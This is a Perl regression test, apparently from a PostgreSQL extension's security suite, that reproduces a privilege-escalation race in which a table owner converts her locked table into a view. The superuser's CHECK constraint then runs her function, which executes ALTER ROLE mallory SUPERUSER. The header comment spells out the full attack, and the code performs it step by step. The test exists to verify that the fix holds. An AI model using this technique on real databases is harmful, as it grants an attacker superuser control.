# What: 673's fix judges a view that the written code reads, but not a
# plain table, and in PostgreSQL 15 a table's owner can turn her empty
# table into a view (CREATE RULE "_RETURN" ... ON SELECT DO INSTEAD, same
# OID, relkind v): after prune() judged it, while her own lock on it
# holds the read.  As in test/t/673, the superuser's public.job_results
# references public.jobs ON DELETE SET NULL and has CHECK
# (public.kind_ok(kind)), a superuser's BEGIN ATOMIC function reading
# mallory's m.kinds -- here a plain table (the application's list of job
# kinds, readable by all): owner_code() reaches it and passes it.
# mallory opens a transaction and takes ACCESS EXCLUSIVE on m.kinds; the
# superuser's prune() judges, deletes, and its cascade's CHECK waits for
# her lock.  She empties m.kinds and creates its "_RETURN" rule SELECT
# 'a'::text AS kind WHERE m.grab(), and commits: the CHECK's query is
# rewritten with the view's query, and m.grab() runs as the superuser (a
# function a view calls runs as the role that reads it), making mallory
# a superuser.
# Why: sql/src/28_owner_session.sql owner_code() (673) judges the owner
# of a relation it reaches only when it is a view or has row level
# security, at the judging; prune() and owner_cascades() lock only the
# tables the DELETE writes, so a table read is judged unlocked and its
# owner changes it under her own lock (test/attack/695's window).
# Expected: nothing of mallory's runs as the superuser: m.log holds no
# row with another role, mallory is no superuser (e.g. a relation
# reached whose owner is not trusted is refused whatever its relkind, or
# locked before it is judged).
# Severity: high -- 673's attacker (a role owning a relation the
# superuser's constraint reads through a function) gets superuser at the
# next prune() by owning a table instead of a view; reliable.  PostgreSQL
# 16 no longer converts a table to a view (695's row level security path
# stays, for a non-superuser caller).
# Control: W2Q_ATTACK_CONTROL=1 makes the conversion before prune()
# starts: prune() skips public.jobs with 673's WARNING (naming m.grab()
# of role mallory, reached through the view's query); mallory stays
# unprivileged.
use strict;
use warnings;
use PostgreSQL::Test::Utils;
use Test::More;
use W2QTest;

my $control = $ENV{W2Q_ATTACK_CONTROL};
my $node = new_node('prune_table_view696');
owner_code_fixture($node, extension => 1);
my ($out, $err) = as_mallory($node, q{CREATE TABLE m.kinds (kind text);
	INSERT INTO m.kinds VALUES ('a');
	GRANT USAGE ON SCHEMA m TO PUBLIC;
	GRANT SELECT ON m.kinds TO PUBLIC;
	CREATE TABLE m.log (cur name);
	GRANT INSERT ON m.log TO PUBLIC;
	CREATE FUNCTION m.grab() RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
	BEGIN
		INSERT INTO m.log VALUES (current_user);
		IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
			EXECUTE 'ALTER ROLE mallory SUPERUSER';
		END IF;
		RETURN true;
	END $f$;});
is($err, '', "mallory's table of the job kinds");
$node->safe_psql('postgres', q{
	CREATE FUNCTION public.kind_ok(k text) RETURNS boolean LANGUAGE sql STABLE
	BEGIN ATOMIC
		SELECT k IS NULL OR EXISTS (SELECT FROM m.kinds v WHERE v.kind = k);
	END;
	CREATE TABLE public.jobs (id bigint PRIMARY KEY, queue text NOT NULL, payload jsonb NOT NULL DEFAULT '{}');
	INSERT INTO public.jobs VALUES (1, 'q', '{}'), (2, 'q', '{}');
	CREATE TABLE public.job_results (job_id bigint REFERENCES public.jobs ON DELETE SET NULL,
	  kind text CHECK (public.kind_ok(kind)));
	INSERT INTO public.job_results VALUES (1, 'a'), (2, 'a');
	SELECT wal2queue.append_only('public.jobs');
	SELECT wal2queue.create_slot('s696', 'public.jobs');});
my $convert = q{DELETE FROM m.kinds;
	CREATE RULE "_RETURN" AS ON SELECT TO m.kinds DO INSTEAD SELECT 'a'::text AS kind WHERE m.grab()};
my $mal = $node->background_psql('postgres', on_error_stop => 1, extra_params => [ '-U', 'mallory' ]);
if ($control)
{
	$mal->query_safe($convert);
}
else
{
	$mal->query_safe(q{BEGIN});
	$mal->query_safe(q{LOCK TABLE m.kinds IN ACCESS EXCLUSIVE MODE});
}
my $su = $node->background_psql('postgres', on_error_stop => 0);
$su->query_until(qr/pruning/, "\\echo pruning\nSELECT wal2queue.prune('public.jobs', force => true) AS pruned;\n\\echo pruned\n");
unless ($control)
{
	ok(wait_until(sub {
		$node->safe_psql('postgres', q{SELECT count(*) FROM pg_locks l JOIN pg_stat_activity a ON a.pid = l.pid
			WHERE NOT l.granted AND l.relation = 'm.kinds'::regclass AND a.query LIKE '%wal2queue.prune%'}) ne '0' }),
		"prune() passed its checks and the CHECK's query waits for mallory's lock on m.kinds");
	$mal->query_safe($convert);
	$mal->query_safe(q{COMMIT});
}
my $pout = $su->query_until(qr/pruned/, '');
my $perr = $su->{stderr} // '';
$su->quit;
$mal->quit;
note("prune: $pout $perr");
note('m.kinds is now a ' . $node->safe_psql('postgres', q{SELECT relkind FROM pg_class WHERE oid = 'm.kinds'::regclass}));
is($node->safe_psql('postgres', q{SELECT count(*) FROM m.log WHERE cur <> 'mallory'}), '0',
	"mallory's function did not run as another role");
is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'}), 'f',
	'mallory is no superuser');
like($perr, qr/WARNING:  wal2queue\.prune: table public\.jobs is skipped: constraint job_results_kind_check of table public\.job_results .* of role mallory/,
	'control: prune() skips public.jobs') if $control;

$node->stop;
done_testing();
